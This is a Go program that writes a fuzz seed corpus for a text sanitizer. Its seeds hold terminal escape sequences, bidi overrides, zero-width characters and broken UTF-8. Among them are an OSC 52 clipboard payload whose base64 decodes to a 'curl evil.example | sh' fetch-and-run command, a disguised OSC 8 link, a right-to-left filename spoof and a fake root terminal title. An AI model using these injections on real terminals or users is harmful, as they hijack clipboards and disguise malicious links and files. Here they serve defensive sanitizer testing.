// Command claims writes the seed corpus of FuzzSanitize (package inspect) into
// inspect/testdata/fuzz/FuzzSanitize: strings holding the terminal control sequences, C1 codes,
// bidi overrides, zero-width characters and broken UTF-8 that claim text can carry.
// Nothing here comes from a real token. Run from the module root:
//
//	go run ./testdata/gen/claims
package main

import (
	"fmt"
	"log"
	"os"
	"path/filepath"
	"strconv"
)

// seeds names each seed file and gives the string it holds.
var seeds = []struct{ name, text string }{
	{"plain", "Jane Doe <jane@example.com>"},
	{"csi-clear", "Jane\x1b[2J\x1b[H Doe"},
	{"osc52-bel", "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07y"},
	{"osc8-st", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"osc2-title", "\x1b]2;root@prod\x07"},
	{"bel", "ding\x07\x07"},
	{"rlo", "invoice\u202egpj.exe"},
	{"isolates", "\u2066a\u2067b\u2068c\u2069"},
	{"zero-width", "ad\u200bmin\u200c\u200d\u2060\ufeff"},
	{"c1", "\u009b2J\u009d52;c;x\u009c\u0085"},
	{"invalid-utf8", "ok\xff\xfe\xc3\x28\xe2\x82"},
	{"separators", "line\u2028para\u2029"},
	{"tags", "flag\U000E0067\U000E0062\U000E007F"},
	{"unfinished-escape", "\x1b[12;"},
	{"lone-esc", "\x1b"},
	{"controls", "\x00\x01\t\n\r\x7f"},
}

func main() {
	dir := filepath.Join("inspect", "testdata", "fuzz", "FuzzSanitize")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		log.Fatalf("cannot make %s: %v", dir, err)
	}
	for _, s := range seeds {
		body := fmt.Sprintf("go test fuzz v1\nstring(%s)\n", strconv.Quote(s.text))
		path := filepath.Join(dir, s.name)
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			log.Fatalf("cannot write %s: %v", path, err)
		}
	}
}
